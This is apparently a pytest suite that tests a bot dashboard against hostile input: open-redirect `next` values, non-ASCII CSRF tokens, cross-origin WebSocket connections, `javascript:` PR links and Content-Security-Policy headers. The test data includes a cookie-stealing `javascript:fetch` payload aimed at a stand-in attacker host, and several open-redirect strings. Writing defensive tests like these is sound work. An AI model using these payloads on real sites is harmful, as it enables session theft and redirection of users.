"""The dashboard against hostile input: a login's `next` that leaves the site, CSRF tokens that are not
ASCII, a page of another origin opening the live WebSocket, a `javascript:` PR URL from an agent API;
and the Content-Security-Policy of every page."""

from __future__ import annotations

import aiohttp
import pytest
from sqlalchemy import update

from bot.links import github_link
from bot.models import AgentRun
from bot.store.agent_runs import NewRun
from dashboard.auth import _safe_next
from dashboard.live import same_origin
from tests.dashboard_support import csrf_of

GITHUB = "https://github.com"


@pytest.fixture
async def dashboard(dashboard):  # type: ignore[no-untyped-def]
    await dashboard.services.worker.stop()  # an agent run made here stays as written
    return dashboard


# ---------------------------------------------------------------- the login's way back

@pytest.mark.parametrize("given", [
    "/\t/evil.example", "/\n/evil.example", "/\r\n/evil.example", "//evil.example",
    "/\\evil.example", "/\\/evil.example", "https://evil.example/", "javascript:alert(1)", "evil.example",
    "/ /evil.example", "/\x00/evil.example", "/\x7f/evil.example", "/\u0085/evil.example", "/é", "", None,
])
def test_a_next_that_leaves_the_site_goes_home(given: str | None) -> None:
    assert _safe_next(given) == "/"


@pytest.mark.parametrize("given", ["/", "/projects/acme/widgets", "/projects/acme/widgets/settings?saved=1#secrets",
                                   "/account?next=//x", "/a%2F%2Fb"])
def test_a_next_on_the_site_is_kept(given: str) -> None:
    assert _safe_next(given) == given


async def test_the_login_never_sends_the_browser_elsewhere(dashboard) -> None:
    dashboard.fake.approve_oauth_as("alice", installation_ids=[1])
    async with aiohttp.ClientSession(cookie_jar=aiohttp.CookieJar(unsafe=True)) as session:
        async with session.get(dashboard.url + "/auth/login?next=/%09/evil.example", allow_redirects=False) as start:
            authorize = start.headers["Location"]
        async with session.get(authorize, allow_redirects=False) as response:
            callback = response.headers["Location"]
        async with session.get(callback, allow_redirects=False) as response:
            assert response.status == 302 and response.headers["Location"] == "/"


# ---------------------------------------------------------------- CSRF tokens that are no ASCII

@pytest.mark.parametrize("where", ["header", "form"])
async def test_a_non_ascii_csrf_token_is_refused_not_a_500(dashboard, where) -> None:
    async with await dashboard.login("alice", installation_ids=[1]) as session:
        await csrf_of(session, dashboard.url + "/account")
        headers = {"X-CSRF-Token": "\u00e9t\u00e9"} if where == "header" else {}
        data = {"csrf_token": "\u00e9t\u00e9", "name": "x"} if where == "form" else {"name": "x"}
        async with session.post(dashboard.url + "/account/tokens", data=data, headers=headers,
                                allow_redirects=False) as response:
            assert response.status == 403 and "CSRF" in await response.text()


# ---------------------------------------------------------------- the live WebSocket

@pytest.mark.parametrize("origin, same", [
    ("http://127.0.0.1:3001", True), ("HTTP://127.0.0.1:3001", True), ("http://127.0.0.1:3002", False),
    ("https://127.0.0.1:3001", False), ("http://evil.example", False), ("null", False), ("", False),
    ("http://[::1", False),
])
def test_same_origin(origin: str, same: bool) -> None:
    assert same_origin(origin, "http://127.0.0.1:3001") is same
    assert same_origin("https://app.example", "https://app.example:443")


async def test_a_page_of_another_origin_cannot_listen_in(dashboard) -> None:
    async with await dashboard.login("alice", installation_ids=[1]) as session:
        for origin in ("http://evil.example", "null", dashboard.url.replace("127.0.0.1", "localhost")):
            with pytest.raises(aiohttp.WSServerHandshakeError) as refused:
                await session.ws_connect(dashboard.url + "/api/v1/ws", headers={"Origin": origin})
            assert refused.value.status == 403, origin
        async with session.ws_connect(dashboard.url + "/api/v1/ws", headers={"Origin": dashboard.url}) as ws:
            dashboard.services.bus.publish("project.status.updated", project_id=(
                await dashboard.services.store.projects.get_project_by_name("acme/widgets")).id, change="x")
            message = await ws.receive_json(timeout=10)
            assert message["event"] == "project.status.updated"


async def test_the_dashboard_reached_at_another_address_than_public_url_still_gets_live_updates(dashboard) -> None:
    # PUBLIC_URL left to its default (HOST/PORT) while `serve --port` listens elsewhere: the page's own
    # origin is the address the browser used, which the request names in its Host.
    async with await dashboard.login("alice", installation_ids=[1]) as session:
        services = dashboard.services
        services.settings = services.settings.with_overrides(public_url="http://127.0.0.1:1")
        async with session.ws_connect(dashboard.url + "/api/v1/ws", headers={"Origin": dashboard.url}) as ws:
            services.bus.publish("project.status.updated", project_id=(
                await services.store.projects.get_project_by_name("acme/widgets")).id, change="x")
            assert (await ws.receive_json(timeout=10))["event"] == "project.status.updated"
        with pytest.raises(aiohttp.WSServerHandshakeError) as refused:
            await session.ws_connect(dashboard.url + "/api/v1/ws", headers={"Origin": "http://evil.example"})
        assert refused.value.status == 403


# ---------------------------------------------------------------- links from outside

@pytest.mark.parametrize("url, link", [
    ("https://github.com/acme/widgets/pull/7", True), ("HTTPS://GitHub.com/acme/widgets/pull/7", True),
    ("javascript:alert(1)", False), ("JAVASCRIPT:alert(1)//https://github.com/", False),
    ("data:text/html,x", False), ("http://github.com/acme/widgets/pull/7", False),
    ("https://github.com.evil.example/x", False), ("https://evil.example/https://github.com/", False),
    ("https://user:pass@github.com/x", False), ("//github.com/x", False), ("/acme/widgets/pull/7", False),
    ("https://github.com/a\tb", False), ("https://github.com/a\\b", False), ("https://[github.com/x", False),
    ("", False), (None, False), (7, False),
])
def test_only_links_to_the_configured_github(url: object, link: bool) -> None:
    assert github_link(url, GITHUB) == (url if link else None)
    assert github_link("https://ghe.example.com/github/acme", "https://ghe.example.com/github") is not None
    assert github_link("https://ghe.example.com/githubx/acme", "https://ghe.example.com/github") is None


async def test_a_hostile_pr_url_is_shown_as_text_not_a_link(dashboard) -> None:
    store = dashboard.services.store
    project = await store.projects.get_project_by_name("acme/widgets")
    run = await store.agent_runs.create(NewRun(project_id=project.id, target_text="Greet", source="api",
                                               requested_by="alice", backend="codegen", auto_confirm=False,
                                               max_fix_attempts=3))
    hostile = "javascript:fetch('//evil.example/?'+document.cookie)"
    await store.db.write(lambda conn: conn.execute(
        update(AgentRun).where(AgentRun.id == run.id).values(pr_url=hostile, pr_number=7)))
    async with await dashboard.login("alice", installation_ids=[1]) as session:
        for page in (f"/projects/acme/widgets/runs/{run.id}", "/projects/acme/widgets"):
            async with session.get(dashboard.url + page) as response:
                html = await response.text()
            assert response.status == 200 and "#7" in html, page
            assert "javascript:" not in html, page
            if page == "/projects/acme/widgets":  # the project page still links to the repository itself
                assert f'href="{dashboard.fake.base_url}/acme/widgets"' in html


# ---------------------------------------------------------------- Content-Security-Policy

async def test_every_answer_carries_the_content_security_policy(dashboard) -> None:
    async with await dashboard.login("alice", installation_ids=[1]) as session:
        for page in ("/", "/account", "/projects/acme/widgets", "/auth/login", "/api/v1/projects", "/nothing",
                     "/static/live.js", "/health"):
            async with session.get(dashboard.url + page, allow_redirects=False) as response:
                policy = response.headers.get("Content-Security-Policy", "")
                assert "script-src 'self'" in policy and "default-src 'none'" in policy, page
                assert "'unsafe-inline'" not in policy and "frame-ancestors 'none'" in policy, page
                assert f"form-action 'self' {dashboard.fake.base_url}" in policy, page
                if response.content_type == "text/html":
                    html = await response.text()
                    assert "<script>" not in html and "<style>" not in html and " onchange=" not in html, page


@pytest.mark.parametrize("content_type, body", [
    ("multipart/form-data", b""),  # no boundary
    ("multipart/form-data; boundary=x", b"garbage"),
    ("application/x-www-form-urlencoded", b"\xff\xfe=%ff"),  # not UTF-8
])
async def test_a_body_that_is_no_form_is_a_400_not_a_500(dashboard, content_type, body) -> None:
    async with await dashboard.login("alice", installation_ids=[1]) as session:
        token = await csrf_of(session, dashboard.url + "/account")
        for headers in ({}, {"X-CSRF-Token": token}):  # the CSRF check reads the form; so does the handler
            async with session.post(dashboard.url + "/account/tokens", data=body,
                                    headers={"Content-Type": content_type, **headers}) as response:
                assert response.status == 400 and "could not be read as a form" in await response.text()
